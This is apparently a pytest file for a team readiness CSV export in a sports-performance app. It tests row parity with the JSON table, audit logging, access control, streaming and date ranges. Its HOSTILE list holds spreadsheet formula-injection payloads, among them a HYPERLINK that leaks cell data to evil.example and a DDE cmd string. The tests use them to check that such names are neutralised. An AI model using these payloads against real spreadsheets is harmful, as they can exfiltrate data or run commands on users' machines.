"""The team table as CSV (GET /teams/{id}/readiness.csv): exactly the JSON table's rows and columns
under the same rules and audit, a header, UTF-8, streamed, and safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest
from sqlalchemy.orm import Session
from tests.conftest import Harness
from tests.readiness.teamdata import API, Shape, Team, audit_of, make_team, share

from perfhub.auth.models import User
from perfhub.core.db import session_scope
from perfhub.privacy.policy import authorize_team_read
from perfhub.readiness.team_csv import csv_cell, csv_chunks
from perfhub.readiness.team_table import (
    COLUMNS,
    SIGNAL_COLUMNS,
    WINDOW_DAYS,
    TableFilters,
    range_rows,
    team_members,
)

pytestmark = pytest.mark.backends("sqlite")

ALL = {"hrv", "sleep", "readiness", "training"}
# Names a spreadsheet would run as formulas (OWASP's examples), and one it would not.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
]


def utc_today() -> date:
    return datetime.now(UTC).date()


def get_csv(harness: Harness, team: Team, viewer: dict[str, Any] | None = None, /, **params: Any) -> Any:
    return harness.client.get(
        f"{API}/teams/{team.id}/readiness.csv", params=params, headers=(viewer or team.coach)["headers"]
    )


def get_table(harness: Harness, team: Team, **params: Any) -> list[dict[str, Any]]:
    response = harness.client.get(
        f"{API}/teams/{team.id}/readiness", params=params, headers=team.coach["headers"]
    )
    assert response.status_code == 200, response.text
    return list(response.json()["athletes"])


def parse(text: str) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.reader(io.StringIO(text, newline=""))
    header, *rows = list(reader)
    return header, [dict(zip(header, row, strict=True)) for row in rows]


def as_cell(column: str, value: Any) -> str:
    """The test's own statement of how a JSON value is written (the module's is csv_cell)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list):
        value = ";".join(value)
    text = str(value)
    if isinstance(value, str) and text[:1] in ("=", "+", "-", "@", "\t", "\r"):
        return "'" + text
    return text


def same_row(json_row: dict[str, Any], csv_row: dict[str, str]) -> None:
    for column in COLUMNS:
        value, cell = json_row[column], csv_row[column]
        if isinstance(value, float):
            assert float(cell) == value, (column, value, cell)
        else:
            assert cell == as_cell(column, value), (column, value, cell)


@pytest.fixture
def team(harness: Harness) -> Team:
    grants: list[set[str]] = [ALL, {"readiness"}, {"sleep"}, set(), ALL, ALL, {"hrv", "readiness"}] + [
        ALL
    ] * len(HOSTILE)
    names = ["Ana", "Ben", "Cleo", "Dan", "Eve", "Finn", "Gus", *HOSTILE]
    shapes = [Shape(sick=3, short=9, seed=k) if k % 2 else Shape(seed=k) for k in range(len(names))]
    return make_team(harness, grants, names=names, shapes=shapes)


@pytest.mark.parametrize(
    "params",
    [
        {},
        {"sort": "-readiness"},
        {"band": "low", "sort": "lnRMSSD"},
        {"flag": ["illness", "sleep_debt"]},
        {"q": "e", "sort": "-sleepDebtHours,name"},
        {"date": 3},  # days before today
    ],
    ids=["all", "sorted", "band", "flags", "name", "date"],
)
def test_the_csv_is_exactly_the_tables_rows_and_columns(
    harness: Harness, team: Team, params: dict[str, Any]
) -> None:
    if "date" in params:
        params = {"date": (utc_today() - timedelta(days=params["date"])).isoformat()}
    expected = get_table(harness, team, **params)
    response = get_csv(harness, team, **params)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    header, rows = parse(response.content.decode("utf-8"))
    assert header == list(COLUMNS)
    assert len(rows) == len(expected) > 0
    for json_row, csv_row in zip(expected, rows, strict=True):
        same_row(json_row, csv_row)


def test_hidden_signals_are_empty_cells_and_named(harness: Harness, team: Team) -> None:
    _, rows = parse(get_csv(harness, team).text)
    ben = next(row for row in rows if row["name"] == "Ben")
    assert ben["hidden"] == "hrv;sleep"
    assert all(ben[column] == "" for signal in ("hrv", "sleep") for column in SIGNAL_COLUMNS[signal])
    assert ben["readiness"] != ""


def test_formula_cells_are_neutralised_and_numbers_stay_numbers(harness: Harness, team: Team) -> None:
    _, rows = parse(get_csv(harness, team).text)
    names = {row["name"] for row in rows}
    for hostile in HOSTILE:
        assert "'" + hostile in names, hostile
        assert hostile not in names
    assert "Ana" in names
    for row in rows:
        for column in ("readiness", "lnRMSSD", "normalLow", "sleepDebtHours", "lastSleepMin"):
            if row[column]:
                float(row[column])  # a number, not a quoted text


def test_cells() -> None:
    assert csv_cell(-0.5) == -0.5 and csv_cell(0) == 0
    assert csv_cell("-0.5") == "'-0.5" and csv_cell("=1+1") == "'=1+1" and csv_cell("@x") == "'@x"
    assert csv_cell("+x") == "'+x" and csv_cell("\tx") == "'\tx" and csv_cell("\rx") == "'\rx"
    assert csv_cell("a=b") == "a=b" and csv_cell("") == ""
    assert csv_cell(None) is None  # the csv module writes it as an empty cell
    assert csv_cell(True) == "true" and csv_cell(False) == "false"
    assert csv_cell(date(2026, 3, 1)) == "2026-03-01"
    assert csv_cell(["illness", "stale"]) == "illness;stale" and csv_cell([]) == ""
    assert csv_cell(["=evil"]) == "'=evil"


def test_the_file_is_written_in_pieces() -> None:
    rows = ({"a": i, "b": f"=x{i}", "c": None, "d": -0.5} for i in range(1201))
    chunks = list(csv_chunks(("a", "b", "c", "d"), rows))
    assert len(chunks) == 3
    text = b"".join(chunks).decode()
    assert text.startswith("a,b,c,d\r\n0,'=x0,,-0.5\r\n") and text.endswith("1200,'=x1200,,-0.5\r\n")


def test_the_response_is_streamed_and_named(harness: Harness, team: Team) -> None:
    response = get_csv(harness, team, date="2026-01-05")
    assert response.status_code == 200
    assert "content-length" not in response.headers  # sent as it is written, not as one body
    assert response.headers["content-disposition"] == f'attachment; filename="team-{team.id}-2026-01-05.csv"'


def test_the_csv_is_audited_as_the_table_is(harness: Harness, team: Team) -> None:
    params = {"band": "low"}
    get_table(harness, team, **params)
    table_audit = audit_of(harness, team.coach["id"])
    assert get_csv(harness, team, **params).status_code == 200
    csv_audit = audit_of(harness, team.coach["id"])[len(table_audit) :]
    assert [(subject, signals) for subject, signals, _ in csv_audit] == [
        (subject, signals) for subject, signals, _ in table_audit
    ]
    assert len(table_audit) > 1
    assert {path for _, _, path in csv_audit} == {f"{API}/teams/{team.id}/readiness.csv"}
    dan = next(a for a in team.athletes if a["name"] == "Dan")  # shares nothing
    assert dan["id"] not in {subject for subject, _, _ in csv_audit}


def test_who_may_download(harness: Harness, team: Team) -> None:
    assert get_csv(harness, team, team.athletes[0]).status_code == 403
    assert get_csv(harness, team, harness.user("coach")).status_code == 404
    assert get_csv(harness, team, harness.user("admin")).status_code == 200


def test_a_revocation_is_obeyed_by_the_next_download(harness: Harness, team: Team) -> None:
    ana = team.athletes[0]
    _, before = parse(get_csv(harness, team).text)
    assert next(r for r in before if r["name"] == "Ana")["lnRMSSD"] != ""
    share(harness, team.id, ana["id"], {"readiness"})
    _, after = parse(get_csv(harness, team).text)
    row = next(r for r in after if r["name"] == "Ana")
    assert row["hidden"] == "hrv;sleep" and row["lnRMSSD"] == "" and row["sleepDebtHours"] == ""


# --------------------------------------------------------------------------------------------
# A range: from/to
# --------------------------------------------------------------------------------------------


def test_a_range_is_the_table_of_each_day_in_turn(harness: Harness, team: Team) -> None:
    end = utc_today()
    start = end - timedelta(days=70)  # more than two windows of days
    params = {"sort": "-readiness,name", "q": "a"}
    response = get_csv(harness, team, **{"from": start.isoformat(), "to": end.isoformat()}, **params)
    assert response.status_code == 200, response.text
    assert response.headers["content-disposition"] == (
        f'attachment; filename="team-{team.id}-{start.isoformat()}--{end.isoformat()}.csv"'
    )
    _, rows = parse(response.text)
    # Either side of each window's edge, whatever the window's length.
    edges = [start + timedelta(days=n) for n in (WINDOW_DAYS - 1, WINDOW_DAYS, 2 * WINDOW_DAYS)]
    for day in (start, *edges, end - timedelta(days=2), end):
        expected = get_table(harness, team, date=day.isoformat(), **params)
        got = [row for row in rows if row["date"] == day.isoformat()]
        assert len(got) == len(expected), day
        for json_row, csv_row in zip(expected, got, strict=True):
            same_row(json_row, csv_row)
    assert [row["date"] for row in rows] == sorted(row["date"] for row in rows)
    assert len({row["date"] for row in rows}) == 71


def test_a_range_is_audited_before_it_is_sent_and_checked(harness: Harness, team: Team) -> None:
    today = utc_today()
    response = get_csv(harness, team, **{"from": (today - timedelta(days=2)).isoformat()})
    assert response.status_code == 200
    audited = {subject: signals for subject, signals, _ in audit_of(harness, team.coach["id"])}
    shares = {a["name"]: a["id"] for a in team.athletes}
    assert audited[shares["Ana"]] == ["hrv", "sleep", "readiness"]
    assert audited[shares["Ben"]] == ["readiness"]
    assert shares["Dan"] not in audited
    too_long = {"from": (today - timedelta(days=366)).isoformat(), "to": today.isoformat()}
    assert get_csv(harness, team, **too_long).status_code == 422
    both = {"date": today.isoformat(), "from": today.isoformat()}
    assert get_csv(harness, team, **both).status_code == 422


def test_a_range_reads_the_next_window_while_sending_one_and_never_two_ahead(
    harness: Harness, team: Team
) -> None:
    end = utc_today()
    start = end - timedelta(days=3 * WINDOW_DAYS - 1)  # three windows
    with session_scope(harness.runtime.sessions) as session:
        coach = session.get(User, team.coach["id"])
        assert coach is not None
        members = team_members(session, authorize_team_read(session, coach, team.id, "/test"))
    reads: list[int] = []

    @contextmanager
    def open_session() -> Iterator[Session]:
        reads.append(len(reads))
        with session_scope(harness.runtime.sessions) as session:
            yield session

    rows = range_rows(open_session, members, start, end, TableFilters())
    first_window = [next(rows) for _ in range(WINDOW_DAYS * len(members))]
    # The first window is all sent: the second may be read (ahead), the third not yet.
    assert 1 <= len(reads) <= 2
    assert {row[0] for row in first_window} == {
        (start + timedelta(days=n)).isoformat() for n in range(WINDOW_DAYS)
    }
    rest = list(rows)
    assert len(reads) == 3
    assert len(first_window) + len(rest) == 3 * WINDOW_DAYS * len(members)
    assert [row[0] for row in rest] == sorted(row[0] for row in rest)
